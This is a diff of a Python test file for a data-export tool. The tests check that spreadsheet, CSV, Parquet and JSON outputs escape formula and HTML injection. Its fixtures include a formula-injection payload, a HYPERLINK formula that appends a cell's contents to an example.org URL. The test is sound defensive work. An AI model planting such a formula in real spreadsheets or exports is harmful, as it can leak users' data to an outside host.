@@ -10,18 +10,20 @@ import io
 import json
 import re
 from dataclasses import replace
+from pathlib import Path
 
 import openpyxl
 import polars as pl
 import pytest
 
-from data.builds import _files
+from data.builds import build_files
 from data.exports import indicator_csv
 from data.exports.csv_files import csv_bytes, excel_csv_bytes
 from data.exports.edition_files import edition_files
 from data.exports.tables import Export
+from data.exports.text_files import write_texts
 from data.models import Edition, Words
-from tests.data.conftest import CITY, ORIGIN
+from tests.data.conftest import BASE_URL, CITY, SITE
 
 FORMULAS = (
     '=HYPERLINK("https://example.org/?"&A1,"here")',
@@ -52,13 +54,16 @@ def dangerous(edition: Edition) -> Edition:
         observations=(*marked, *edition.observations[len(marked) :]),
         sources={**edition.sources, first.id: poisoned},
         indicators=(indicator, *edition.indicators[1:]),
+        files={},
     )
 
 
 @pytest.fixture(scope="module")
-def files(dangerous: Edition) -> dict[str, bytes]:
+def files(dangerous: Edition, tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
     kept: dict[str, bytes] = {}
-    for file, content in edition_files(dangerous, ORIGIN, kept.__getitem__):
+    texts = tmp_path_factory.mktemp("texts")
+    write_texts(texts, dangerous, CITY, SITE)
+    for file, content in edition_files(texts, kept.__getitem__):
         kept[file.path] = content
     return {path.rpartition("/")[2]: content for path, content in kept.items()}
 
@@ -94,7 +99,7 @@ def test_no_cell_of_a_workbook_is_a_formula(files: dict[str, bytes]) -> None:
         )
     book = openpyxl.load_workbook(io.BytesIO(files["all.xlsx"]))
     texts = {cell.value for row in book["sources"] for cell in row}
-    assert FORMULAS[0] in texts
+    assert f"'{FORMULAS[0]}" in texts
     assert all(cell.hyperlink is None for row in book["sources"] for cell in row)
 
 
@@ -110,18 +115,19 @@ def test_json_keeps_the_text_but_cannot_end_a_script(files: dict[str, bytes]) ->
 
 def test_parquet_keeps_the_text(files: dict[str, bytes]) -> None:
     found = pl.read_parquet(io.BytesIO(files["observations.parquet"]))
-    assert found["note"].to_list()[: len(FORMULAS)] == list(FORMULAS)
+    assert found["note"].to_list()[: len(FORMULAS)] == [f"'{formula}" for formula in FORMULAS]
     assert found["value_text"][0] == HTML
 
 
-def test_the_catalogue_and_the_indicators_json_hold_no_html(dangerous: Edition) -> None:
-    contents: dict[str, bytes] = {}
-    for file, content in _files((dangerous,), ORIGIN, contents.__getitem__):
-        contents[file.path] = content
-    for path, content in contents.items():
+def test_the_catalogue_and_the_indicators_json_hold_no_html(
+    dangerous: Edition, tmp_path: Path
+) -> None:
+    made = build_files(dangerous, CITY, tmp_path, base_url=BASE_URL, site_title=SITE)
+    for path in made.files:
+        content = made.place(path).read_bytes()
         assert b"<" not in content or not path.endswith(("json", "jsonld")), path
     slug = dangerous.indicators[0].slug
-    record = json.loads(contents[f"en/kpi/{slug}.json"])
+    record = json.loads(made.place(f"en/kpi/{slug}.json").read_bytes())
     assert record["indicator"]["definition"] == {"en": FORMULAS[1], "ru": HTML}
 
 
